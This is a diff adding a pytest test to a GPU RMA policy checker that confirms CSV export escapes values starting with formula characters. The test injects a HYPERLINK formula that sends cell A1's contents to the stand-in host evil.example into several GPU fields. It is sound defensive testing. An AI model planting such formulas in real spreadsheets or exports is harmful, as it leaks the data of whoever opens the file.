@@ -1,6 +1,8 @@
 """The RMA policy: loading and checking rules/rma.yml, and which GPUs it names (pure evaluation)."""
 from __future__ import annotations
 
+import csv
+import io
 from datetime import datetime, timedelta, timezone
 
 import pytest
@@ -74,3 +76,15 @@ def test_bad_policies_are_reported_with_their_line(tmp_path):
     messages = [(p.line, p.message) for p in report.errors]
     assert any(line == 4 and "duplicate RMA rule name 'twice'" in m for line, m in messages), messages
     assert any(line == 5 for line, _ in messages), messages  # the window is not a Prometheus duration
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_no_csv_cell_starts_a_formula(rules, start):
+    """Labels come from alerts: a node or model written as a formula must reach the spreadsheet as text."""
+    formula = start + 'HYPERLINK("https://evil.example/?"&A1,"Click")'
+    gpu = {"uuid": "GPU-b", "serial": formula, "pci_bus_id": formula, "model": formula, "cluster": formula,
+           "node": formula}
+    found = evaluate(rules, [row("GPU-b", 3, 20, [79]), row("GPU-b", 4, 2, [79])], {"GPU-b": gpu}, NOW)
+    cells = [cell for line in list(csv.reader(io.StringIO(to_csv(found))))[1:] for cell in line]
+    assert cells.count("'" + formula) == 5, cells
+    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))], cells
